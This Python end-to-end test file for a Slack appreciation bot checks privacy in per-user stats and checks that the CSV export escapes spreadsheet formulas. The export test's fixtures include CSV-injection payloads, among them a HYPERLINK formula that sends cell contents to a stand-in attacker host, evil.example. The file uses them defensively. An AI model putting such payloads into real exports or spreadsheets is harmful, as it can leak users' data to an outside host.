"""What people see keeps its promises, through the real processes: someone else's stats count
public appreciation only, and an export opened in a spreadsheet runs nothing."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

from bot.domain import PersonInfo, Workspace
from bot.services import appreciation, workspaces
from bot.store.db import Database
from tests.conftest import ANA, BEN, GIVER
from tests.e2e.processes import Running, bot_env, running, wait_until
from tests.e2e.test_cli import advocate
from tests.support.fake_slack import FakeSlack

WS = Workspace("T111")
CLAIRE = "U444"


def give(db: Database, giver: str, to: str, reason: str, *, private: bool = False) -> None:
    """An appreciation recorded now (the processes run on the real clock)."""
    draft = appreciation.Draft(giver, [to], reason, is_private=private, source_key=reason)
    appreciation.record(db, WS, draft, PersonInfo(giver), datetime.now(UTC), daily_limit=99)


def stats(bot: Running, slack: FakeSlack, asker: str, text: str, key: str) -> str:
    assert bot.client is not None
    status, _ = bot.client.command(
        command="/appreciate", text=text, user_id=asker, response_url=slack.response_url(key)
    )
    assert status == 200
    assert wait_until(lambda: slack.response_url_posts(key), 20), "no answer to /appreciate stats"
    return str(slack.response_url_posts(key)[-1]["text"])


def test_someone_elses_stats_count_their_public_appreciation_only(
    slack: FakeSlack, db: Database, tmp_path: Path
) -> None:
    workspaces.ensure(db, WS, "Acme", datetime.now(UTC))
    give(db, GIVER, ANA, "for the launch checklist")
    with running(bot_env(slack, db), tmp_path, "run", "--http", "--no-scheduler") as bot:
        before = stats(bot, slack, BEN, f"stats <@{ANA}>", "before")
        give(db, CLAIRE, ANA, "for the candid feedback", private=True)
        after = stats(bot, slack, BEN, f"stats <@{ANA}>", "after")
        own = stats(bot, slack, ANA, "stats", "own")
        givers = stats(bot, slack, BEN, f"stats <@{CLAIRE}>", "giver")
    assert "Received: this week *1*" in before and "all time *1*" in before
    assert after == before
    # Her own view counts the private thanks she received; Claire's given count hides it.
    assert "Received: this week *2*" in own
    assert "Given: this week *0*" in givers


def test_csv_export_cells_never_run_as_formulas(
    slack: FakeSlack, db: Database, tmp_path: Path
) -> None:
    workspaces.ensure(db, WS, "Acme", datetime.now(UTC))
    formulas = [
        '=HYPERLINK("https://evil.example/?x="&A1,"click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\tleading tab",
        "\rleading return",
    ]
    for n, reason in enumerate(formulas):
        give(db, GIVER, ANA if n % 2 else BEN, reason)
    give(db, GIVER, ANA, "for the plain reason, 3-2=1")

    result = advocate(
        "export", "--team", "T111", "--format", "csv", "--output", str(tmp_path / "out"),
        env=bot_env(slack, db), cwd=tmp_path,
    )  # fmt: skip

    assert result.returncode == 0, result.stderr
    with (tmp_path / "out" / "appreciations.csv").open(newline="", encoding="utf-8") as handle:
        reasons = [row["reason"] for row in csv.DictReader(handle)]
    assert sorted(reasons) == sorted(["'" + f for f in formulas] + ["for the plain reason, 3-2=1"])
